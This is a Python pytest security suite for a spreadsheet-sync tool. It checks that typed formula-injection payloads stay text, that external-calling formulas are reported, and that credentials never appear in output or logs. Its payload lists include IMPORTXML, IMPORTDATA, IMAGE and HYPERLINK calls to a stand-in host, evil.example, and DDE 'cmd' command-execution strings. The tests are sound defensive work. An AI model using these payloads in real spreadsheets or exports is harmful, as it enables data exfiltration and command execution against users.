"""Security: nothing people type becomes a formula, and no secret is ever shown.

1. CSV/formula injection. Every OWASP injection prefix (``=``, ``+``, ``-``, ``@``, tab,
   carriage return) and payloads built on IMPORTXML, IMPORTDATA, IMAGE and HYPERLINK are
   typed as *text* into every input column of every input tab, as RACI role headers (with
   R/A values, so they are role columns and their headers are copied into the computed
   Accountable/Responsible cells) and as ids/keys (so they are copied into the Issues tab's
   Key and Message columns and onto the Dashboard). After provision + sync, on both backends,
   no cell anywhere is a formula the tool wrote: xlsx is reopened with openpyxl *and* its
   sheet XML is scanned for ``<f>`` elements; on Google the fake's stored cells are scanned
   for ``userEnteredValue.formulaValue``. The only formulas allowed are the real ones a
   person typed in the setup.
2. Those real formulas: each one that calls IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED,
   IMPORTRANGE, IMAGE or links outside with HYPERLINK draws SECURITY-EXTERNAL-FORMULA naming
   its cell; a link inside the workbook (``HYPERLINK("#gid=0&range=A1", ...)``) and plain
   arithmetic do not.
3. Credentials. The command line (sync, check, report --format json, doctor, provision
   --dry-run; with and without --debug) runs in a separate process against the fake served
   on 127.0.0.1, configured with a service-account key file, with and without injected
   faults (403, 404, 500, on every endpoint or only on writes); stdout and stderr never hold
   the test token, the private key, ``private_key`` or ``Bearer``. Library syncs under the
   same faults run with Python logging captured at DEBUG (google-auth's own request logging
   switched on), and no log record holds them either. A key file readable by other users
   draws a warning: covered at the CLI level by
   tests/backends/google/test_auth.py::test_doctor_says_whom_it_acts_as_and_never_shows_the_key;
   here `doctor` runs with a 0644 key file too and the warning is asserted again.
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from sheets_sync.a1 import a1
from sheets_sync.backends.base import Backend, CellUpdate
from sheets_sync.backends.xlsx import XlsxBackend
from sheets_sync.sync import SyncResult, provision, sync
from sheets_sync.templates import load_template, normalize_header
from tests.backends.google.test_auth import key_file
from tests.fakes.google_api import FakeGoogle, serve
from tests.fakes.google_backend import TOKEN, google_backend
from tests.helpers import base_tabs
from tests.reliability.figures import record, scale

SUITE = "security"
AS_OF = dt.date(2026, 11, 27)
D = dt.date

# --------------------------------------------------------------------------- payloads

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
BODIES = (
    'IMPORTXML("http://evil.example/x","//a")',
    'IMPORTDATA("http://evil.example/d.csv")',
    'IMAGE("http://evil.example/p.png")',
    'HYPERLINK("http://evil.example","click")',
    "2+3+cmd|' /C calc'!A0",
    "1+1",
)
NAMED = (
    '=IMPORTXML("http://evil.example/x","//a")',
    '+IMAGE("http://evil.example/p.png")',
    '@HYPERLINK("http://evil.example","click")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    " =1+1",  # trimmed to "=1+1" wherever the tool copies it
    "=1+1 ",
    '\t\r=IMAGE("http://evil.example/p.png")',
)


def _payloads() -> tuple[str, ...]:
    found: list[str] = list(NAMED)
    for prefix in PREFIXES:
        for body in BODIES:
            # tab / CR are themselves a prefix: they hide an "=" that follows them
            text = prefix + ("=" + body if prefix in "\t\r" else body)
            if text not in found:
                found.append(text)
    return tuple(found)


PAYLOADS = _payloads()

#: Real formulas a person types (as formulas) in input tabs: (formula, external?).
HUMAN_FORMULAS: tuple[tuple[str, bool], ...] = (
    ('=IMPORTXML("http://evil.example/x","//a")', True),
    ('=IMPORTDATA("http://evil.example/d.csv")', True),
    ('=IMPORTHTML("http://evil.example/t","table",1)', True),
    ('=IMPORTFEED("http://evil.example/rss")', True),
    ('=IMPORTRANGE("1AbCdEfGhIjKlMnOp","Sheet1!A1:B2")', True),
    ('=IMAGE("http://evil.example/p.png")', True),
    ('=HYPERLINK("http://evil.example","click")', True),
    ('=HYPERLINK("https://evil.example/only-a-url")', True),
    ("=importxml(\"http://evil.example/x\",\"//a\")", True),
    ('=IFERROR(IMPORTDATA("http://evil.example/d.csv"),"")', True),
    ('=IMAGE ("http://evil.example/p.png")', True),
    ('=HYPERLINK(""&"http://evil.example","x")', True),
    ('=HYPERLINK(CONCATENATE("http://","evil.example"),"x")', True),
    ('=HYPERLINK("#gid=0&range=A1","x")', False),
    ('=HYPERLINK("#gid=0&range=B2")', False),
    ("=1+1", False),
    ("=SUM(1,2)", False),
)

#: Where the real formulas go: (tab, header); the last is a person's own column.
FORMULA_HOMES = (
    ("Goals", "Goal"),
    ("KPIs", "Unit"),
    ("KPI Log", "Note"),
    ("Reviews", "Decisions"),
    ("RACI", "Task"),
    ("People", "Role"),
    ("Goals", "Links (mine)"),
)

TEXT_TYPES = {"text", "id", "person", "goal", "kpi", "email"}

# --------------------------------------------------------------------------- the workbook


@dataclass
class Setup:
    """What the person typed: grids by header, and where the real formulas are."""

    #: tab -> header row (template inputs + own columns) and data rows (header -> value)
    rows: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    extra_headers: dict[str, list[str]] = field(default_factory=dict)
    #: (tab, header, data row index) -> formula
    formulas: dict[tuple[str, str, int], str] = field(default_factory=dict)
    roles: list[str] = field(default_factory=list)
    placed: int = 0


def unique_keys() -> list[str]:
    """One key per payload: the payload itself, or (when an earlier payload reads the same
    once trimmed and case-folded) the payload followed by `` #i``, still starting with it."""
    seen: set[str] = set()
    keys = []
    for i, p in enumerate(PAYLOADS):
        norm = normalize_header(p)
        keys.append(p if norm not in seen else f"{p} #{i}")
        seen.add(norm)
    return keys


def build_setup(people_known: bool) -> Setup:
    """Every payload in every input column of every input tab, as ids, refs and role headers.

    ``people_known``: each payload is also a Person in People (so Owner references and
    role headers resolve); otherwise they are unknown (REF-UNKNOWN, RACI-UNKNOWN-PERSON,
    both of which quote the payload in their messages).
    """
    template = load_template()
    s = Setup()
    good = {
        "Start date": D(2026, 1, 1),
        "Due date": D(2026, 12, 31),
        "Date": D(2026, 11, 20),
        "Baseline": 0,
        "Target": 100,
        "Value": 50,
        "Direction": "increase",
        "Cadence": "weekly",
        "Review cadence": "monthly",
        "State": "Active",
        "Outcome": "Achieved",
        "Confidence": "High",
    }
    keys = unique_keys()
    s.rows = {"People": [{"Person": "Ana", "Email": "ana@northwind.example",
                          "Organization": "Northwind"}]}
    for tab in ("Goals", "KPIs", "KPI Log", "RACI", "Reviews"):
        s.rows[tab] = []
    for p, key in zip(PAYLOADS, keys, strict=True):
        for spec in template.tables:
            if spec.kind != "table":
                continue
            ref = key  # Goal ID / KPI ID / person references
            own, text = key, p
            if spec.name == "People" and not people_known:
                # typed into every People column, but no Person or Role names a payload
                own, text = f"{key} (not a person)", f"{p} (not a role)"
            text_row: dict[str, Any] = {}
            all_row: dict[str, Any] = {}
            for col in spec.inputs:
                if col.key:
                    text_row[col.header], all_row[col.header] = own, own + " (all)"
                elif col.type in ("person", "goal", "kpi"):
                    text_row[col.header] = all_row[col.header] = ref
                elif col.type in TEXT_TYPES:
                    text_row[col.header] = all_row[col.header] = text
                else:  # dates, numbers, enums: valid in one row, the payload in the other
                    text_row[col.header] = good[col.header]
                    all_row[col.header] = text
            s.rows[spec.name] += [text_row, all_row]
    # RACI role columns, one per distinct payload: role j is A on task j's first row and
    # R on task j-1's; on task j's second row it is A/R next to another A (RACI-MULTI-A).
    roles = [k for k in keys if not k.endswith(tuple(f" #{i}" for i in range(len(keys))))]
    s.roles = roles
    s.extra_headers["RACI"] = roles
    raci, m = s.rows["RACI"], len(roles)
    for j in range(m):
        raci[2 * j][roles[j]] = "A"
        raci[2 * j][roles[(j + 1) % m]] = "R"
        raci[2 * j + 1][roles[j]] = "A/R"
        raci[2 * j + 1][roles[(j + 2) % m]] = "A"
    s.extra_headers["Goals"] = ["Links (mine)"]
    for k, (formula, _external) in enumerate(HUMAN_FORMULAS):
        tab, header = FORMULA_HOMES[k % len(FORMULA_HOMES)]
        s.formulas[(tab, header, k)] = formula
    return s


def layout(backend: Backend, s: Setup) -> dict[str, list[str]]:
    """Each tab's header row as provisioned, plus the person's own columns at the end."""
    data = backend.read()
    out: dict[str, list[str]] = {}
    for tab in s.rows:
        raw = data.tab(tab)
        assert raw is not None
        headers = [str(h) if h is not None else "" for h in raw.header]
        out[tab] = headers + [h for h in s.extra_headers.get(tab, []) if h not in headers]
    return out


Typed = tuple[str, int, int, Any, bool]


def _column_finder(col_of: dict[str, int], extra: list[str]) -> Any:
    def col(header: str) -> int:
        return col_of[header] if header in extra else col_of[normalize_header(header)]

    return col


def cells_of(s: Setup, heads: dict[str, list[str]]) -> list[Typed]:
    """(tab, row, col, value, is_formula) of everything the person types."""
    out: dict[tuple[str, int, int], Typed] = {}
    for tab, headers in heads.items():
        extra = s.extra_headers.get(tab, [])
        col_of = {normalize_header(h): c for c, h in enumerate(headers)}
        col_of.update({h: headers.index(h) for h in extra})  # exact, for own columns
        col = _column_finder(col_of, extra)
        for h in extra:
            out[(tab, 0, col(h))] = (tab, 0, col(h), h, False)
        for r, row in enumerate(s.rows[tab], start=1):
            for header, value in row.items():
                out[(tab, r, col(header))] = (tab, r, col(header), value, False)
        for (ftab, header, k), formula in s.formulas.items():
            if ftab == tab:  # data row k + 1: there are always more rows than formulas
                out[(tab, k + 1, col(header))] = (tab, k + 1, col(header), formula, True)
    s.placed = sum(
        1 for *_, v, f in out.values() if not f and isinstance(v, str) and
        any(v.startswith(p) for p in PAYLOADS)
    )
    return list(out.values())


# --------------------------------------------------------------------------- two backends


class XlsxPerson:
    """Types into the .xlsx with openpyxl; text stays text (a person typing '=... in Excel)."""

    name = "xlsx"

    def __init__(self, folder: Path) -> None:
        self.path = folder / "partnership.xlsx"

    def backend(self) -> Backend:
        return XlsxBackend(self.path)

    def type_in(self, cells: list[Typed]) -> None:
        import openpyxl

        wb = openpyxl.load_workbook(self.path)
        for tab, r, c, value, is_formula in cells:
            cell = wb[tab].cell(r + 1, c + 1)
            cell.value = value
            if isinstance(value, str) and not is_formula:
                cell.data_type = "s"
            if is_formula:
                assert cell.data_type == "f"
        wb.save(self.path)

    def formula_cells(self) -> set[tuple[str, str]]:
        """Every formula cell, by openpyxl's reading and by the sheet XML itself."""
        import openpyxl

        found: set[tuple[str, str]] = set()
        wb = openpyxl.load_workbook(self.path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        found.add((ws.title, cell.coordinate))
        xml_found = xml_formula_cells(self.path)
        assert xml_found == found, (xml_found ^ found)
        return found


def xml_formula_cells(path: Path) -> set[tuple[str, str]]:
    """(tab, A1) of every <c> holding an <f> element, straight from the sheet XML."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    rel_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    found: set[tuple[str, str]] = set()
    with zipfile.ZipFile(path) as z:
        workbook = ElementTree.fromstring(z.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target", "") for r in rels}
        for sheet in workbook.iterfind("m:sheets/m:sheet", ns):
            target = targets[sheet.get(f"{{{rel_ns}}}id")].lstrip("/")
            part = target if target.startswith("xl/") else "xl/" + target
            root = ElementTree.fromstring(z.read(part))
            for c in root.iterfind(".//m:sheetData/m:row/m:c", ns):
                if c.find("m:f", ns) is not None:
                    found.add((str(sheet.get("name")), str(c.get("r"))))
        # belt and braces: no formula element anywhere outside the ones parsed above
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = z.read(name).decode("utf-8")
                assert len(re.findall(r"<(?:\w+:)?f[ >/]", text)) <= len(found)
    return found


class GooglePerson:
    """Types into the fake's cells: text as stringValue (what '=... gives in the UI)."""

    name = "google"

    def __init__(self) -> None:
        self.fake = FakeGoogle(seed=11)
        self.spreadsheet_id: str | None = None

    def backend(self) -> Backend:
        backend = google_backend(self.fake, self.spreadsheet_id)
        return backend

    def remember(self, backend: Any) -> None:
        self.spreadsheet_id = backend.spreadsheet_id

    def type_in(self, cells: list[Typed]) -> None:
        assert self.spreadsheet_id is not None
        ss = self.fake.spreadsheet(self.spreadsheet_id)
        for tab, r, c, value, is_formula in cells:
            sheet = ss.sheet(tab)
            if c >= sheet.column_count:
                ss.insert_columns(tab, sheet.column_count, c + 1 - sheet.column_count)
            if is_formula:
                ss.set_cell(tab, r, c, value, effective="calculated elsewhere")
                assert "formulaValue" in ss.cell(tab, r, c)["userEnteredValue"]
            elif isinstance(value, str):
                with self.fake.lock:
                    sheet.cell_for_write(r, c)["userEnteredValue"] = {"stringValue": value}
            else:
                ss.set_cell(tab, r, c, value)

    def formula_cells(self) -> set[tuple[str, str]]:
        assert self.spreadsheet_id is not None
        found: set[tuple[str, str]] = set()
        for sheet in self.fake.spreadsheet(self.spreadsheet_id).sheets:
            for (r, c), cell in sheet.cells.items():
                formula = (cell.get("userEnteredValue") or {}).get("formulaValue")
                if formula is None:
                    continue
                if sheet.title == "Issues" and TOOL_LINK.match(formula):
                    continue  # the tool's own link to a cell, text quoted
                found.add((sheet.title, a1(r, c)))
        return found


#: The one formula the tool writes on Google: a link built from a sheetId and an A1
#: address, its text a quoted string literal (so nothing in it is evaluated).
TOOL_LINK = re.compile(r'^=HYPERLINK\("#gid=\d+&range=\$?[A-Z]+\$?\d+","(?:[^"]|"")*"\)$')

Person = XlsxPerson | GooglePerson


@dataclass
class Run:
    person: Person
    setup: Setup
    human: set[tuple[str, str]]  # (tab, A1) of the real formulas typed
    human_formula: dict[tuple[str, str], str]
    results: list[SyncResult]
    people_known: bool


def injected(person: Person, people_known: bool) -> Run:
    """Provision, type everything in, provision again (role columns), then two syncs."""
    backend = person.backend()
    provision(backend)
    if isinstance(person, GooglePerson):
        person.remember(backend)
    s = build_setup(people_known)
    cells = cells_of(s, layout(person.backend(), s))
    person.type_in(cells)
    human = {(tab, a1(r, c)): v for tab, r, c, v, f in cells if f}
    assert person.formula_cells() == set(human)  # the setup typed text as text
    provision(person.backend())
    results = [
        sync(person.backend(), as_of=AS_OF),
        sync(person.backend(), as_of=AS_OF + dt.timedelta(days=9)),
    ]
    provision(person.backend())
    return Run(person, s, set(human), human, results, people_known)


@pytest.fixture(scope="module", params=["xlsx", "google"])
def backend_name(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(
    scope="module",
    params=[True, False][: scale(1, 2)],  # the fast subset: payloads that are also People
    ids=["people-known", "people-unknown"][: scale(1, 2)],
)
def run(
    request: pytest.FixtureRequest, backend_name: str, tmp_path_factory: pytest.TempPathFactory
) -> Run:
    person: Person
    if backend_name == "xlsx":
        person = XlsxPerson(tmp_path_factory.mktemp("security"))
    else:
        person = GooglePerson()
    return injected(person, bool(request.param))


TOTALS: dict[str, int] = {
    "payloads_placed": 0,
    "formulas_created_by_the_tool": 0,
    "external_formulas_not_reported": 0,
    "credential_leaks": 0,
    "outputs_scanned": 0,
}


def grid_texts(person: Person, tab: str) -> list[str]:
    data = person.backend().read()
    raw = data.tab(tab)
    assert raw is not None
    texts = []
    for row in raw.values:
        for v in row:
            if v is not None:
                texts.append(getattr(v, "text", v) if not isinstance(v, str) else v)
    return [str(t) for t in texts]


def test_nothing_typed_becomes_a_formula(run: Run) -> None:
    person = run.person
    found = person.formula_cells()
    created = found - run.human
    TOTALS["payloads_placed"] += run.setup.placed
    TOTALS["formulas_created_by_the_tool"] += len(created)
    assert not created, sorted(created)[:20]
    assert run.human <= found  # the person's own formulas are still there
    # the payloads really went through the tool's own columns and tabs, as text
    data = person.backend().read()
    raci = data.tabs["RACI"]
    head = [normalize_header(h) for h in raci.header]
    accountable = {raci.get(r, head.index("accountable")) for r in range(1, raci.height)}
    responsible = {raci.get(r, head.index("responsible")) for r in range(1, raci.height)}
    trimmed = {" ".join(p.split()) for p in run.setup.roles}
    assert trimmed <= accountable and trimmed <= responsible
    issues = grid_texts(person, "Issues")
    assert any(t.startswith("=") for t in issues) and any(t.startswith("+") for t in issues)
    assert any(t.startswith("-") for t in issues) and any(t.startswith("@") for t in issues)
    dashboard = grid_texts(person, "Dashboard")
    assert any("IMPORTXML" in t for t in dashboard)
    # ...and into the messages of the findings that quote them
    rules = {f.rule for r in run.results for f in r.findings if f.key.startswith(PAYLOADS)}
    assert {"RACI-MULTI-A", "VALUE-TYPE", "VALUE-ENUM"} <= rules
    if not run.people_known:
        assert {"RACI-UNKNOWN-PERSON", "REF-UNKNOWN"} <= rules


def test_real_external_formulas_are_reported_by_cell(run: Run) -> None:
    for result in run.results:
        reported = {
            (f.tab, f.cell) for f in result.findings if f.rule == "SECURITY-EXTERNAL-FORMULA"
        }
        want = {
            where for where, formula in run.human_formula.items() if dict(HUMAN_FORMULAS)[formula]
        }
        missed = want - reported
        TOTALS["external_formulas_not_reported"] += len(missed)
        assert not missed, sorted(missed)
        wrong = reported - want
        assert not wrong, [(w, run.human_formula.get(w)) for w in sorted(wrong)]


# --------------------------------------------------------------------------- credentials

SECRET_WORDS = (TOKEN, "private_key", "Bearer", "PRIVATE KEY")


def secrets_in(text: str, pem: str) -> list[str]:
    """Which credential material ``text`` holds: the token, key words, the key (or a line)."""
    lines = [line for line in pem.strip().splitlines()[1:-1] if len(line) >= 16]
    body = "".join(lines)
    found = [w for w in SECRET_WORDS if w.lower() in text.lower()]
    if body and body in "".join(text.split()):
        found.append("the private key body")
    found += [f"a private key line ({line[:8]}...)" for line in lines if line in text]
    return found


def test_the_secret_scanner_finds_secrets(tmp_path: Path) -> None:
    _, pem = key_file(tmp_path)
    assert secrets_in(pem, pem)
    assert secrets_in(json.dumps({"private_key": pem}), pem)  # JSON-escaped newlines
    assert secrets_in("Authorization: bearer abc", pem) == ["Bearer"]
    assert secrets_in(f"token={TOKEN}", pem) == [TOKEN]
    assert secrets_in("acme: acts as partnership-sync@acme-ops.iam.gserviceaccount.com", pem) == []


def fill(backend: Backend) -> None:
    """Provision, then what people typed (base_tabs), so a sync has work to write."""
    provision(backend)
    data = backend.read()
    backend.write(data, [
        CellUpdate(tab, r, c, v, "date" if isinstance(v, dt.date) else
                   "number" if isinstance(v, int | float) else "text")
        for tab, grid in base_tabs().items()
        for r, row in enumerate(grid)
        for c, v in enumerate(row)
        if v is not None
    ])


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FakeGoogle, str, str]]:
    """The fake on 127.0.0.1 holding a provisioned, filled spreadsheet: (fake, url, id)."""
    fake = FakeGoogle(seed=5)
    server = serve(fake, 0)
    try:
        backend = google_backend(fake)
        fill(backend)
        assert backend.spreadsheet_id
        yield fake, server.url, backend.spreadsheet_id
    finally:
        server.close()


#: (name, status, endpoint): every request fails, or only the write.
FAULTS: tuple[tuple[str, int | None, str | None], ...] = (
    ("none", None, None),
    ("403", 403, None),
    ("404", 404, None),
    ("500", 500, None),
    ("403-on-write", 403, "sheets.spreadsheets.batchUpdate"),
    ("500-on-write", 500, "sheets.spreadsheets.batchUpdate"),
)
ASOF = ("--as-of", AS_OF.isoformat())
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("sync", *ASOF),
    ("sync", "--json", *ASOF),
    ("check", *ASOF),
    ("report", "--format", "json", *ASOF),
    ("doctor",),
    ("provision", "--dry-run"),
)


def cli_cases() -> list[tuple[tuple[str, int | None, str | None], bool, tuple[str, ...]]]:
    """Every command x fault x --debug in full; in the fast subset every command once with
    no fault and every fault once (on a rotating command, half of them with --debug)."""
    every = [(f, d, c) for f in FAULTS for d in (False, True) for c in COMMANDS]
    if scale(0, 1):
        return every
    fast = [(FAULTS[0], False, c) for c in COMMANDS]
    fast += [(f, i % 2 == 1, COMMANDS[i % 4]) for i, f in enumerate(FAULTS[1:])]
    return fast


def cli(root: str, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SHEETS_SYNC_GOOGLE_API_ROOT": root, "SHEETS_SYNC_STATE_DIR": str(cwd)}
    for name in ("SHEETS_SYNC_CONFIG", "SHEETS_SYNC_TIMEZONE", "SHEETS_SYNC_LOCALE"):
        env.pop(name, None)
    return subprocess.run(
        [sys.executable, "-m", "sheets_sync", *args],
        cwd=cwd, env=env, capture_output=True, text=True, timeout=300,
    )


def test_no_credential_in_command_line_output(
    served: tuple[FakeGoogle, str, str], tmp_path: Path
) -> None:
    """Each command in its own process, configured with a service-account key file."""
    fake, root, sid = served
    key, pem = key_file(tmp_path, 0o644)  # readable by others: doctor must say so
    (tmp_path / "sheets-sync.toml").write_text(
        f'[google]\nauth = "service_account"\ncredentials = "{key.name}"\n'
        "max_attempts = 2\nmax_retry_seconds = 2\n"
        f'[[workbooks]]\nname = "acme"\nbackend = "google"\nspreadsheet_id = "{sid}"\n'
    )
    leaks: list[tuple[str, tuple[str, ...], list[str]]] = []
    scanned = 0
    for (name, status, endpoint), debug, command in cli_cases():
        fake.faults.clear()
        if status is not None:
            fake.faults.add(status, count=1000, endpoint=endpoint)
        args = (("--debug",) if debug else ()) + command
        try:
            done = cli(root, tmp_path, *args)
        finally:
            fake.faults.clear()
        out = done.stdout + done.stderr
        scanned += 2
        found = secrets_in(out, pem)
        if found:
            leaks.append((name, args, found))
        assert done.returncode != 3, (name, args, out)  # explained, never a crash
        if status is None:
            assert done.returncode in (0, 1), (args, out)
        elif endpoint is None:
            assert done.returncode != 0, (name, args, out)
        if command == ("doctor",):
            assert "readable by other users" in out, out
    TOTALS["credential_leaks"] += len(leaks)
    TOTALS["outputs_scanned"] += scanned
    assert not leaks, leaks


def _log_texts(records: list[logging.LogRecord]) -> str:
    """Everything a handler could print: message, extras (google-auth's httpRequest), trace."""
    parts = []
    for rec in records:
        parts.append(rec.getMessage())
        parts.append(json.dumps(rec.__dict__, default=str))
        if rec.exc_info:
            parts.append(logging.Formatter().formatException(rec.exc_info))
    return "\n".join(parts)


def test_no_credential_in_debug_logs(
    caplog: pytest.LogCaptureFixture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Library syncs under faults with every logger at DEBUG (google-auth's own included),
    in process ("mounted") and over HTTP with credentials from config ("served")."""
    from sheets_sync.backends.google import open_google
    from sheets_sync.config import Config, GoogleConfig, WorkbookConfig

    key, pem = key_file(tmp_path)
    fake = FakeGoogle(seed=9)
    server = serve(fake, 0)
    google_logger = logging.getLogger("google")  # google-auth stops it propagating by default
    saved = (google_logger.level, google_logger.propagate)
    google_logger.setLevel(logging.DEBUG)
    google_logger.propagate = True
    scanned = 0
    leaks: list[tuple[str, list[str]]] = []
    faults = FAULTS if scale(0, 1) else FAULTS[:4]
    try:
        backend = google_backend(fake)
        fill(backend)
        sid = backend.spreadsheet_id
        monkeypatch.setenv("SHEETS_SYNC_GOOGLE_API_ROOT", server.url)
        config = Config(
            google=GoogleConfig(credentials=key, max_attempts=2, max_retry_seconds=1.0)
        )
        workbook = WorkbookConfig(name="acme", backend="google", spreadsheet_id=sid)
        for day, (name, status, endpoint) in enumerate(faults):
            for how in ("mounted", "served"):
                caplog.clear()
                fake.faults.clear()
                if status is not None:
                    fake.faults.add(status, count=1000, endpoint=endpoint)
                with caplog.at_level(logging.DEBUG):
                    target = (
                        google_backend(fake, sid) if how == "mounted"
                        else open_google(workbook, config)
                    )
                    try:
                        sync(target, config, as_of=AS_OF + dt.timedelta(days=day))
                    except Exception as exc:  # the failure is scanned too
                        logging.getLogger("test").debug("sync failed: %s", exc, exc_info=exc)
                fake.faults.clear()
                assert caplog.records, "nothing was logged at DEBUG"
                scanned += 1
                found = secrets_in(_log_texts(caplog.records), pem)
                if found:
                    leaks.append((f"{name}/{how}", found))
    finally:
        google_logger.setLevel(saved[0])
        google_logger.propagate = saved[1]
        server.close()
    TOTALS["credential_leaks"] += len(leaks)
    TOTALS["outputs_scanned"] += scanned
    assert not leaks, leaks


def test_no_digest_secret_in_output_files_or_logs(
    caplog: pytest.LogCaptureFixture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The SMTP password and the webhook URLs, through notify's every path: printed,
    written as .eml, sent to a server that is down, posted to a webhook that is down."""
    import socket

    from click.testing import CliRunner

    from sheets_sync.backends.xlsx import XlsxBackend
    from sheets_sync.cli import cli
    from sheets_sync.demo import fill_demo

    def free_port() -> int:
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            return int(sock.getsockname()[1])

    password, hook = "pw-7Hq2-never-shown", "T00/B00/hook-secret-9xZ"
    fill_demo(XlsxBackend(tmp_path / "book.xlsx"), AS_OF)
    (tmp_path / "sheets-sync.toml").write_text(
        '[notify]\nsender = "bot@example.org"\nslack_webhook_env = "HOOK_URL"\n'
        f'[notify.smtp]\nhost = "127.0.0.1"\nport = {free_port()}\nstarttls = false\n'
        'user = "bot"\npassword_env = "SMTP_PW"\nattempts = 1\n'
        '[[workbooks]]\nname = "book"\nbackend = "xlsx"\npath = "book.xlsx"\n'
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SHEETS_SYNC_STATE_DIR", str(tmp_path / "state"))
    env = {"SMTP_PW": password, "HOOK_URL": f"http://127.0.0.1:{free_port()}/{hook}"}
    monkeypatch.setattr("sheets_sync.webhooks.time.sleep", lambda _s: None)
    leaks: list[tuple[tuple[str, ...], str]] = []
    scanned = 0
    for args in (
        ("notify", "--dry-run"),
        ("notify", "--out", "mail"),
        ("notify",),
        ("--debug", "notify"),
        ("sync", "--notify"),
    ):
        caplog.clear()
        with caplog.at_level(logging.DEBUG):
            done = CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)
        texts = [done.stdout, done.stderr, _log_texts(caplog.records)]
        texts += [p.read_text(errors="replace") for p in (tmp_path / "mail").glob("*.eml")]
        for text in texts:
            scanned += 1
            for secret in (password, hook):
                if secret in text:
                    leaks.append((args, secret))
        assert done.exit_code in (0, 1), (args, done.output)
    TOTALS["credential_leaks"] += len(leaks)
    TOTALS["outputs_scanned"] += scanned
    assert not leaks, leaks


def test_zz_figures() -> None:
    """Record the suite's figures (runs last in this module)."""
    record(SUITE, "payloads_placed", TOTALS["payloads_placed"],
           note=f"{len(PAYLOADS)} payloads in every input column, as role headers and keys; "
           f"2 backends x {scale(1, 2)} People variants")
    record(SUITE, "formulas_created_by_the_tool", TOTALS["formulas_created_by_the_tool"],
           must_be=0)
    record(SUITE, "external_formulas_not_reported", TOTALS["external_formulas_not_reported"],
           must_be=0)
    record(SUITE, "credential_leaks", TOTALS["credential_leaks"], must_be=0)
    record(SUITE, "outputs_scanned", TOTALS["outputs_scanned"],
           note="CLI stdout+stderr per command/fault, and DEBUG log captures")
    assert TOTALS["formulas_created_by_the_tool"] == 0
    assert TOTALS["external_formulas_not_reported"] == 0
    assert TOTALS["credential_leaks"] == 0
